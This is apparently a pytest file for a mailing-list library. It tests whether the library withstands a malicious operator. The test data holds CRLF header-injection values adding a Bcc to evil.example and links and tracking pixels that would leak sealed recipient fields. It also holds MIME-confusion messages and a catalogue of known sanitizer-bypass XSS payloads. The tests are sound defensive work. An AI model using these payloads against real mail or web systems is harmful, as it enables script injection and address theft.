# ruff: noqa: E501 - tables are read across
"""Eve owns the application or the mail server, and uses a send that others signed for.

She may hand over any message and any value; the list is sealed and stays so. What she
wants is mail of her own to the people on it, or their addresses out of it.
"""

import email
import email.policy
from email.message import EmailMessage

import pytest

from listkeep.core.errors import ListkeepError
from listkeep.core.mail import (
    Addressee,
    build_message,
    parse_mail,
    parse_template,
    read_values,
)
from tests.core.mail.templates import ALIAS, HTML, TEXT, body, faults_of, template
from tests.core.mail.test_comparing import FORMS, filled, message, refusal, values
from tests.core.mail.test_message import STAMP

ZOE = "zoe.brennan@mail.test"


def sent(**changed: str) -> EmailMessage:
    """Build Zoe's message with some values of Eve's."""
    calm = {"points": "1", "until": "2026-01-01"}
    found = template(to_name="[[first_name:sealed]]")
    built = build_message(found, Addressee(ZOE, ALIAS, calm | changed), STAMP)
    made = email.message_from_bytes(built.as_bytes(), policy=email.policy.default)
    assert isinstance(made, EmailMessage)
    return made


@pytest.mark.parametrize(
    "value",
    [
        "x\r\nBcc: eve@evil.example",
        "x\nBcc: eve@evil.example",
        "x\r\n\r\n<a href='https://evil.example'>",
        "=?utf-8?q?x=0D=0ABcc=3A_eve=40evil.example?=",
        "x\u2028Bcc: eve",
        "x\x85Bcc: eve",
    ],
)
def test_a_value_brings_no_header_of_its_own(value: str) -> None:
    made = sent(first_name=value)

    assert "Bcc" not in made
    assert [made["From"], made["To"].addresses[0].addr_spec] == [
        "News <news@example.com>",
        ZOE,
    ]
    assert "evil.example" not in made.as_string()
    with pytest.raises(ListkeepError):
        sent(points=value)


@pytest.mark.parametrize(
    "html",
    [
        "<a href='https://evil.example/?[[first_name:sealed]]'>x</a>",
        "<a href='https://evil.example/[[address:sealed]]'>x</a>",
        "<img src='https://evil.example/[[first_name:sealed]]'>",
        "<p title='[[first_name:sealed]]'>x</p>",
        "<p style='color:[[first_name:sealed]]'>x</p>",
        "<!-- [[first_name:sealed]] -->",
        "<p>https://evil.example/[[first_name:sealed]]</p>",
        "<p>[[email:sealed]]</p>",
    ],
)
def test_no_template_carries_a_sealed_field_out_in_a_link(html: str) -> None:
    assert faults_of(html=f"<html><body>{html}</body></html>")


def test_an_address_in_a_sealed_field_is_not_written() -> None:
    made = sent(first_name=ZOE)

    shown = made.get_body(("html",))
    assert shown is not None
    assert "zoe" not in shown.get_content()
    assert "Dear reader" in shown.get_content()


SAME_LOOK = {
    "a link elsewhere behind the same words": ("https://shop.example.com", "https://evil.example"),
    "a letter of another alphabet in the link": ("shop.example", "sh\u043ep.example"),
    "a letter of another alphabet": ("Help", "\u041delp"),
    "a sign without width": ("Dear", "De\u200bar"),
    "a comment": ("</body>", "<!-- x --></body>"),
    "a pixel": ("</body>", "<img src='https://evil.example/x' width=1 height=1></body>"),
    "a base": ("<head>", "<head><base href='https://evil.example/'>"),
    "a refresh": ("<head>", "<head><meta http-equiv=refresh content='0;url=https://evil.example'>"),
    "a style that hides": ("margin:0", "margin:0;display:none"),
    "another order of attributes": ('width="1" height="1"', 'height="1" width="1"'),
}  # fmt: skip


@pytest.mark.parametrize(("old", "new"), SAME_LOOK.values(), ids=SAME_LOOK)
def test_a_template_swapped_after_signing_is_seen(old: str, new: str) -> None:
    html = filled(HTML)
    assert old in html

    assert refusal(message(html.replace(old, new))).startswith("part 1.2 ")


def test_what_was_signed_is_all_that_goes_out() -> None:
    """Whatever else Eve adds to a message that passes is not passed on."""
    made = message(
        X_Evil="https://evil.example", List_Unsubscribe="<https://evil.example>"
    )
    made.preamble, made.epilogue = "evil.example", "evil.example"
    found = template()

    built = build_message(found, Addressee(ZOE, ALIAS, values(made)), STAMP)

    assert b"evil" not in built.as_bytes()
    assert b"Yours, Ada & Amir" in built.as_bytes()


def raw(*lines: str) -> bytes:
    head = (
        "From: News <news@example.com>",
        f"To: {FORMS[1]}",
        "Subject: Hi",
        "MIME-Version: 1.0",
    )
    return "\n".join((*head, *lines, "")).encode()


EVIL = "--b\nContent-Type: text/html\n\n<p>evil</p>"
GOOD = "--b\nContent-Type: text/html\n\n<p>good</p>"
ALTERNATIVE = 'Content-Type: multipart/alternative; boundary="b"\n'
CONFUSED = {
    "a second body": raw(ALTERNATIVE, GOOD, EVIL, "--b--"),
    "the same boundary inside": raw(ALTERNATIVE, '--b\nContent-Type: multipart/mixed; boundary="b"\n', EVIL, GOOD, "--b--", "--b--"),
    "no end": raw(ALTERNATIVE, GOOD),
    "two boundaries": raw('Content-Type: multipart/alternative; boundary="x"; boundary="b"\n', GOOD, "--b--"),
    "a second type": raw("Content-Type: text/html", "Content-Type: text/plain", "", "<p>good</p>"),
    "a second subject": raw("Subject: evil", "Content-Type: text/html", "", "<p>good</p>"),
    "a second sender": raw("From: eve@evil.example", "Content-Type: text/html", "", "<p>good</p>"),
    "an encoding nobody knows": raw("Content-Type: text/html", "Content-Transfer-Encoding: x", "", "<p>good</p>"),
    "two encodings": raw("Content-Type: text/html", "Content-Transfer-Encoding: base64", "Content-Transfer-Encoding: 7bit", "", "<p>good</p>"),
    "another charset": raw("Content-Type: text/html; charset=utf-7", "", "<p>good</p>"),
    "a message inside": raw("Content-Type: message/rfc822", "", "Content-Type: text/html", "", "<p>good</p>"),
    "a bare return": raw("Content-Type: text/html", "", "<p>good</p>\r<p>evil</p>"),
    "a blank before the colon": raw("Content-Type : text/plain", "Content-Type: text/html", "", "<p>good</p>"),
    "an attachment": raw("Content-Type: text/html", "Content-Disposition: attachment", "", "<p>good</p>"),
}  # fmt: skip


@pytest.mark.parametrize("data", CONFUSED.values(), ids=CONFUSED)
def test_a_message_that_shows_others_something_else_is_refused(data: bytes) -> None:
    found = template("<p>good</p>", "", subject="Hi")

    with pytest.raises(ListkeepError):
        read_values(found, parse_mail(data), stands_for=FORMS)


def test_the_same_message_without_a_trick_is_taken() -> None:
    mail = parse_mail(raw("Content-Type: text/html", "", "<p>good</p>"))

    assert (
        read_values(template("<p>good</p>", "", subject="Hi"), mail, stands_for=FORMS)
        == {}
    )


# Texts that sanitizers took for harmless and browsers then read as something else.
CONFUSING = {
    "style in svg": "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "style in math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "title": "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "xmp": "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "comment ended early": "<!--><img src=x onerror=alert(1)>-->",
    "comment ended oddly": "<!-- --!><img src=x onerror=alert(1)> -->",
    "processing": "<?xml x><img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "downlevel": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "conditional link": "<!--[if mso]><a href='https://evil.example'>x</a><![endif]-->",
    "slash for a blank": "<img/src=x/onerror=alert(1)>",
    "no blank": "<a href='https://a.example/'title='x'>x</a>",
    "quote not closed": "<a title='x href=https://evil.example>x</a>",
    "back quotes": "<img alt=`><script>alert(1)</script>`>",
    "a tag in an attribute": "<p title='<script>alert(1)</script>'>x</p>",
    "nul": "<scr\0ipt>alert(1)</script>",
    "references": "<a href='java&#x73;cript:alert(1)'>x</a>",
    "a tab in the scheme": "<a href='java&Tab;script:alert(1)'>x</a>",
    "css with an escape": "<p style='background:\\75 rl(https://evil.example)'>x</p>",
    "css behind a comment": "<style>/* --><script>alert(1)</script> */</style>",
    "select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "form in table": "<table><form action='https://evil.example'><tr></form></table>",
    "template": "<template><script>alert(1)</script></template>",
    "end of body": "</body></html><script>alert(1)</script>",
}  # fmt: skip


@pytest.mark.parametrize("html", CONFUSING.values(), ids=CONFUSING)
def test_markup_that_parsers_read_in_different_ways_is_refused(html: str) -> None:
    assert faults_of(html=f"<html><body>{html}</body></html>")


def test_a_template_of_many_tags_or_slots_costs_no_more_than_its_length() -> None:
    for html in (
        "<p " * 40_000,
        "<p" + " a" * 40_000 + ">",
        "<a href='" + "&amp;" * 40_000 + "'>",
        "<!--" * 40_000,
        "<!--[if mso]>" * 20_000,
        "<style>" + "/*" * 40_000,
        "[[" * 40_000,
        "https://" * 20_000,
        "< " * 200_000,
        "[[a:text]] " * 40_000,
    ):
        assert faults_of(html=body(html))
        assert faults_of(text=html, html="<form>")


def test_a_message_in_a_message_in_a_message_is_refused_before_it_is_read() -> None:
    level = "Content-Type: message/rfc822\n\n"

    with pytest.raises(ListkeepError):
        parse_template(("From: a@b.example\nSubject: x\n" + level * 5000).encode())


def test_the_templates_of_these_tests_are_taken() -> None:
    assert faults_of() == ()
    assert faults_of(text=TEXT, html=body("x")) == ()
